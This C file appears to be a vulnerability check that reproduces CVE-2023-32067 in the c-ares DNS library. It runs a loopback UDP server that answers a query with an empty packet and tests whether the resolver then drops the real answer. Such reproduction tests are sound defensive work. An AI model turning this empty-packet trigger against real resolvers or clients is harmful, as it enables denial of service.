/* CVE-2023-32067: an empty UDP packet ends the connection, so that the answer behind it is lost. */
#include "trigger.h"
#include "ares.h"
#include <arpa/inet.h>
#include <sys/select.h>
#include <sys/socket.h>

static int outcome = -1;

static void answered(void *unused, int status, int timeouts, unsigned char *answer, int size) {
  outcome = status;
}

/* Answers the query with an empty packet, and then with the query itself made an answer of code 0. */
static void serve(int server) {
  unsigned char packet[512];
  struct sockaddr_in client;
  socklen_t size = sizeof client;
  ssize_t length = recvfrom(server, packet, sizeof packet, 0, (struct sockaddr *)&client, &size);
  if (length < 12) _exit(UNABLE);
  sendto(server, packet, 0, 0, (struct sockaddr *)&client, size);
  packet[2] |= 0x80;
  sendto(server, packet, (size_t)length, 0, (struct sockaddr *)&client, size);
}

static int misbehaves(void) {
  int server = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  socklen_t size = sizeof address;
  setsockopt(server, SOL_SOCKET, SO_RCVTIMEO, &(struct timeval){5, 0}, sizeof(struct timeval));
  if (bind(server, (struct sockaddr *)&address, size) != 0) return UNABLE;
  getsockname(server, (struct sockaddr *)&address, &size);
  struct ares_options options = {.tries = 1, .timeout = 5000, .nservers = 1,
                                 .udp_port = ntohs(address.sin_port), .servers = &address.sin_addr,
                                 .flags = ARES_FLAG_NOCHECKRESP};
  ares_channel channel;
  int given = ARES_OPT_TRIES | ARES_OPT_TIMEOUTMS | ARES_OPT_SERVERS | ARES_OPT_UDP_PORT | ARES_OPT_FLAGS;
  if (ares_init_options(&channel, &options, given) != ARES_SUCCESS) return UNABLE;
  ares_query(channel, "example.com", 1, 1, answered, NULL);
  serve(server);
  while (outcome == -1) {
    fd_set readers, writers;
    FD_ZERO(&readers);
    FD_ZERO(&writers);
    int count = ares_fds(channel, &readers, &writers);
    if (count == 0) break;
    select(count, &readers, &writers, NULL, NULL);
    ares_process(channel, &readers, &writers);
  }
  return outcome != ARES_ENODATA && outcome != ARES_SUCCESS;
}
